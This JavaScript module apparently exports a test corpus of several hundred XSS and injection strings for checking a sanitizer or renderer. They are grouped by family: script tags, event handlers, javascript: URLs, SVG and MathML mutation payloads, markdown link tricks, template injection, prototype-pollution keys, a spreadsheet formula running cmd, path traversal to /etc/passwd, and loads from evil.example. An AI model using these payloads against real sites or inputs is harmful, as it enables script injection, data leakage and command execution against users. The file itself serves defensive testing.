// Strings that have broken other programs, by family: each would call `__pwned` with its number if a page let it.

// Where code would run, `RUN` stands for it; `EVIL` for a place outside.
const SCRIPTS = [
  "<script>RUN</script>", "<SCRIPT>RUN</SCRIPT>", "<scr<script>ipt>RUN</scr</script>ipt>", "<script/x>RUN</script>", "<script\n>RUN</script >",
  "<<script>RUN//<</script>", "<script>RUN", "<script src=EVIL/x.js></script>", "<script src=data:text/javascript,RUN></script>",
  "<script type=module>RUN</script>", "<script\0>RUN</script>", "<svg><script>RUN</script></svg>", "<svg><script href=data:,RUN />",
  "<math><script>RUN</script></math>", "<script>/*<![CDATA[*/RUN/*]]>*/</script>", "<script language=vbscript>RUN</script>",
];

const CLOSERS = [
  "</script>", "</style>", "</title>", "</textarea>", "</noscript>", "</template>", "</select>", "</option>", "</svg>", "</math>", "</pre>", "</code>",
  "</details>", "</summary>", "</blockquote>", "</main></body></html>", "</a>", "</time>", "</p></li></ol></section>", "<!--", "-->", "--!>", "<!-->",
  "<!--><!---->", "]]>", "<![CDATA[", "<?xml", "?>", "<!", "*/", "</", "<", "/>", "</plaintext>", "<!--</script>", "</script\n>", "</SCRIPT/>",
].map((closer) => `${closer}<img src=x onerror=RUN>`);

const BREAKOUTS = ['"', "'", "`", '">', "'>", "`>", '"/>', '\\"', "\\'", "&quot;", "&#34;", "&#x27;", "&apos;", "%22", "\u00a0", "\u2028", "\t", "\n", "\f", "x=\"\" ", "=\"", "\u201c", "\uff02"]
  .map((quote) => `${quote} autofocus onfocus=RUN onmouseover=RUN x=${quote}`);

const ADDRESSES = [
  "javascript:RUN", "JaVaScRiPt:RUN", "java\tscript:RUN", "java\nscript:RUN", "java\r\nscript:RUN", "\u0001javascript:RUN", " \u00a0javascript:RUN",
  "javascript\0:RUN", "javascript&colon;RUN", "javascript&#58;RUN", "javascript&#x3a;RUN", "&#106;avascript:RUN", "&#0000106&#0000097vascript:RUN",
  "java&Tab;script&colon;RUN", "java&NewLine;script:RUN", "javascript%3ARUN", "%6aavascript:RUN", "javascript://a.example/%0aRUN",
  "https:javascript:RUN", "vbscript:RUN", "livescript:RUN", "data:text/html,<script>RUN</script>", "data:text/html;base64,PHNjcmlwdD5fX3B3bmVkKDEpPC9zY3JpcHQ+",
  "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='RUN'/>", "view-source:javascript:RUN", "feed:javascript:RUN", "jar:javascript:RUN!/x",
  "blob:null/RUN", "filesystem:x", "file:///etc/passwd", "about:blank", "\u202ejavascript:RUN", "javascript\u200b:RUN", "\ufeffjavascript:RUN",
  "//evil.example/x", "\\\\evil.example\\x", "/\\evil.example", "https://evil.example/\" onclick=\"RUN", "https://evil.example/' onclick='RUN",
  "http://[::1]\"><img src=x onerror=RUN>", "mailto:a@a.example?bcc=b@evil.example\" onclick=\"RUN", "tel:1\"><img src=x onerror=RUN>", "C:\\x",
];

const WRAPPED = ["javascript:RUN", "java\tscript:RUN", "data:text/html,<script>RUN</script>", "vbscript:RUN", "javascript&colon;RUN", "x\" onerror=\"RUN"].flatMap((address) => [
  `[x](${address})`, `[x](<${address}>)`, `![x](${address})`, `<${address}>`, `[x]\n\n[x]: ${address}`, `[x]: <${address}> "t"\n\n[x][] ![x]`, `[[${address}]]`, `[[${address}|x]]`,
  `![[${address}]]`, `<a href="${address}">x</a>`, `<a xlink:href='${address}'>x</a>`, `[![x](${address})](${address})`,
]);

const HANDLERS = [
  "<img src=x onerror=RUN>", "<img src=x:x onerror=RUN//", "<img/src/onerror=RUN>", "<img src=x onerror\n=\nRUN>", "<image src=x onerror=RUN>", "<svg onload=RUN>", "<svg/onload=RUN>",
  "<body onload=RUN>", "<input autofocus onfocus=RUN>", "<select autofocus onfocus=RUN>", "<textarea autofocus onfocus=RUN>", "<video><source onerror=RUN></video>",
  "<video src=x onerror=RUN>", "<audio src=x onerror=RUN>", "<details open ontoggle=RUN>", "<marquee onstart=RUN>", "<iframe onload=RUN></iframe>", "<object data=x onerror=RUN>",
  "<embed src=x onerror=RUN>", "<style onload=RUN></style>", "<link rel=stylesheet href=x onerror=RUN>", "<a onclick=RUN>x</a>", "<button popovertarget=p onclick=RUN>x",
  "<div popover id=p onbeforetoggle=RUN>", "<x style=animation-name:x onanimationstart=RUN>", "<x tabindex=1 autofocus onfocus=RUN>", "<x onpointerover=RUN>x</x>",
  "<img srcset='x 1x' onerror=RUN>", "<track onerror=RUN>", "<keygen autofocus onfocus=RUN>", "<dialog open onclose=RUN>", "<meter onmouseover=RUN>0</meter>", "<body onhashchange=RUN>",
  "<svg><a onclick=RUN><text>x</text></a></svg>", "<div contenteditable autofocus onfocus=RUN>x", "<form oninput=RUN><input></form>", "<isindex type=image src=x onerror=RUN>",
];

const FOREIGN = [
  "<svg><animate onbegin=RUN attributeName=x dur=1s>", "<svg><set onbegin=RUN attributeName=x to=1>", "<svg><a xlink:href=javascript:RUN><text y=20>x</text></a></svg>",
  "<svg><a><animate attributeName=href values=javascript:RUN /><text y=20>x</text></a></svg>", "<svg><use href=\"data:image/svg+xml,<svg id='x' onload='RUN'/>#x\" />",
  "<svg><foreignObject><iframe srcdoc='<script>RUN</script>'></iframe></foreignObject></svg>", "<svg><style>@import 'EVIL/x.css'</style></svg>", "<svg><image href=EVIL/x.png /></svg>",
  "<svg><title><img src=x onerror=RUN></title></svg>", "<svg><desc><img src=x onerror=RUN></desc></svg>", "<math href=javascript:RUN>x</math>", "<math><maction actiontype=statusline xlink:href=javascript:RUN>x",
  "<math><annotation-xml encoding=text/html><img src=x onerror=RUN></annotation-xml></math>", "<math><mtext><img src=x onerror=RUN></mtext></math>",
];

const MUTANTS = [
  "<noscript><p title=\"</noscript><img src=x onerror=RUN>\">", "<svg></p><style><a id=\"</style><img src=1 onerror=RUN>\">", "<math><mtext><table><mglyph><style><!--</style><img title=\"--><img src=1 onerror=RUN>\">",
  "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style><img src=x onerror=RUN>\">", "<listing>&lt;img src=1 onerror=RUN&gt;</listing>", "<xmp><p title=\"</xmp><img src=x onerror=RUN>\">",
  "<textarea><p title=\"</textarea><img src=x onerror=RUN>\">", "<template><img src=x onerror=RUN></template>", "<select><template><style><!--</style><a rel=\"--></style></template></select><img id=x src onerror=RUN>\">",
  "<iframe><!--</iframe><img src=x onerror=RUN>-->", "<noembed><p title='</noembed><img src=x onerror=RUN>'>", "<plaintext><img src=x onerror=RUN>", "<table><td><img src=x onerror=RUN>", "<p id=\"a\" title='`\"><img src=x onerror=RUN>'>",
  "&lt;img src=x onerror=RUN&gt;", "&amp;lt;img src=x onerror=RUN&amp;gt;", "%3Cimg src=x onerror=RUN%3E", "\\u003cimg src=x onerror=RUN\\u003e", "\\x3cimg src=x onerror=RUN\\x3e", "\uff1cimg src=x onerror=RUN\uff1e",
  "+ADw-script+AD4-RUN+ADw-/script+AD4-", "\u001b$B<img src=x onerror=RUN>\u001b(B",
];

const ELEMENTS = [
  "<meta http-equiv=refresh content='0;url=EVIL'>", "<meta http-equiv=refresh content='0;url=javascript:RUN'>", "<meta http-equiv=Content-Security-Policy content=\"script-src *\">", "<meta http-equiv=Set-Cookie content=x=y>",
  "<base href=EVIL/>", "<base target=_top>", "<iframe src=EVIL></iframe>", "<iframe src=javascript:RUN></iframe>", "<iframe srcdoc='<script>parent.RUN</script>'></iframe>", "<object data=EVIL></object>",
  "<object data=javascript:RUN>", "<embed src=EVIL>", "<applet code=x codebase=EVIL></applet>", "<form action=EVIL><button>x</button></form>", "<form action=javascript:RUN><input type=submit></form>",
  "<button formaction=javascript:RUN>x</button>", "<input type=image src=EVIL/x.png formaction=javascript:RUN>", "<link rel=stylesheet href=EVIL/x.css>", "<link rel=prefetch href=EVIL>", "<link rel=import href=EVIL>",
  "<link rel=manifest href=EVIL>", "<frameset><frame src=EVIL></frameset>", "<portal src=EVIL></portal>", "<img src=EVIL/pixel.gif>", "<picture><source srcset=EVIL/x.png><img></picture>", "<video autoplay src=EVIL/x.mp4 poster=EVIL/x.png>",
  "<audio autoplay src=EVIL/x.mp3>", "<table background=EVIL/x.png>", "<body background=EVIL/x.png>", "<bgsound src=EVIL/x.wav>", "<style>@import 'EVIL/x.css';</style>", "<style>*{background:url(EVIL/x)!important}</style>",
  "<div style=\"background:url(EVIL/x)\">x</div>", "<div style=\"width:expression(RUN)\">x</div>", "<div style='behavior:url(EVIL/x.htc)'>x</div>", "<x style='position:fixed;inset:0;background:red'>over all</x>", "url(javascript:RUN)", "expression(RUN)",
  "<a href=EVIL ping=EVIL/ping>x</a>", "<a id=head name=body>x</a>", "<img name=getElementById>", "<form name=body><input name=children></form>", "<slot name=x>", "<dialog open>x</dialog>", "![x](EVIL/pixel.gif)", "![x][y]\n\n[y]: EVIL/pixel.gif",
];

const TEMPLATES = [
  "{{RUN}}", "{{{RUN}}}", "{{constructor.constructor('RUN')()}}", "{{#with this}}{{lookup . 'constructor'}}{{/with}}", "{{> letter}}", "{{/each}}", "{{/if}}<img src=x onerror=RUN>", "{{else}}", "{{!-- x --}}", "\\{{head.root}}",
  "{{{content}}}", "{{&me}}", "{{~me~}}", "{{", "}}", "{{{{raw}}}}<img src=x onerror=RUN>{{{{/raw}}}}", "${RUN}", "`${RUN}`", "#{RUN}", "<%= RUN %>", "{% RUN %}", "<?php RUN ?>", "[[RUN]]", "@{RUN}", "$$RUN$$", "%%<script>RUN</script>%%",
];

const DATA_BREAKS = [
  "\"}]});RUN;//", "'}]});RUN;//", "\\\"}]});RUN;//", "\"]);RUN//", "`);RUN//", "\u2028RUN\u2028", "\u2029RUN\u2029", "\\", "\\\\\");RUN//", "\n\");RUN//", "\r\n\r\n<script>RUN</script>", "*/RUN/*", "//\nRUN", "</script><script>RUN</script>",
  "<!--<script>", "\"><!--", "__proto__", "constructor", "toString", "{\"__proto__\":{\"x\":1}}", "=cmd|' /C calc'!A0", "null", "NaN", "-1", "true",
];

const ODDITIES = [
  "\u202e<img src=x onerror=RUN>\u202c", "\u2066\u2067\u2068<b>\u2069", "a\0<img src=x onerror=RUN>", "\ufeff<script>RUN</script>", "\u200b<script>RUN</script>", "<\u200bscript>RUN</script>", "\u0085<img src=x onerror=RUN>",
  "z\u0335\u0322\u0321".repeat(60) + "<img src=x onerror=RUN>", "A".repeat(4000) + "<img src=x onerror=RUN>", "<".repeat(1500), "\"".repeat(500) + ">", "&".repeat(500), "&lt".repeat(200), "[".repeat(300) + "](javascript:RUN)", "> ".repeat(300) + "<img src=x onerror=RUN>",
  "../../../etc/passwd", "..\\..\\x", "%2e%2e%2f", "con", "aux.html", "index", ".", "..", "~", "-", "---", "+++", "# <img src=x onerror=RUN>", "<img src=x onerror=RUN>: <img src=x onerror=RUN> -> <img src=x onerror=RUN>", "\ud83d\udc69\u200d\ud83d\udcbb<b>", "<b>", "&", "'", "\"",
];

const PEOPLE = [
  "<img src=x onerror=RUN>@evil.example", "\"<img src=x onerror=RUN>\"@evil.example", "a@evil.example\"onmouseover=\"RUN", "a@evil.example?bcc=b@evil.example&body=<script>RUN</script>", "a@evil.example%0aBcc:b@evil.example", "javascript:RUN@evil.example",
  "a@evil.example'onclick='RUN", "Dana <javascript:RUN>", "Dana <a@\"><img src=x onerror=RUN>", "+1 555\"><img src=x onerror=RUN>", "+1;phone-context=javascript:RUN", "https://linkedin.example/in/\"onclick=RUN", "https://linkedin.example/in/<script>RUN</script>",
];

const MARKDOWN = [
  "# h {onclick=RUN #x .y}", "```\"><img src=x onerror=RUN>\nx\n```", "```html onload=RUN\n<script>RUN</script>\n```", "- [ ] <img src=x onerror=RUN>", "| <img src=x onerror=RUN> | b |\n|---|---|\n| <script>RUN</script> | `<b>` |", "x[^1]\n\n[^1]: <img src=x onerror=RUN>",
  "[^\"><img src=x onerror=RUN>]: x\n\nx[^\"><img src=x onerror=RUN>]", "[x](https://a.example \"t\" onmouseover=RUN)", "[x](https://a.example '\"onmouseover=RUN')", "![\" onerror=RUN x=\"](z.png)", "![x](z.png '\"onerror=RUN')", "<div>\n\n# <img src=x onerror=RUN>\n\n</div>", "> [!note\"><img src=x onerror=RUN>] x",
  "> [!warning] <img src=x onerror=RUN>\n> <script>RUN</script>", "[[x|<img src=x onerror=RUN>]]", "![[x.png|\" onerror=RUN]]", "`<img src=x onerror=RUN>`", "``` \n</code></pre><img src=x onerror=RUN>\n```", "    </code><img src=x onerror=RUN>", "<https://a.example/\"onclick=RUN>", "Setext <img src=x onerror=RUN>\n===",
  "\\<img src=x onerror=RUN>", "*<img src=x onerror=RUN>*", "~~<script>RUN</script>~~", "&lt;script&gt;RUN&lt;/script&gt;", "[x](#\"onclick=RUN)", "[x](?\"><script>RUN</script>)", "![x](../../../../x.png)", "[a]: javascript:RUN\n\n[a] [b][a]",
];

/** All of them, each calling with its own number. */
export const STRINGS = [
  SCRIPTS, CLOSERS, BREAKOUTS, ADDRESSES, WRAPPED, HANDLERS, FOREIGN, MUTANTS, ELEMENTS, TEMPLATES, DATA_BREAKS, ODDITIES, PEOPLE, MARKDOWN,
].flat().map((text, number) => text.replaceAll("RUN", `__pwned(${number})`).replaceAll("EVIL", "https://evil.example"));
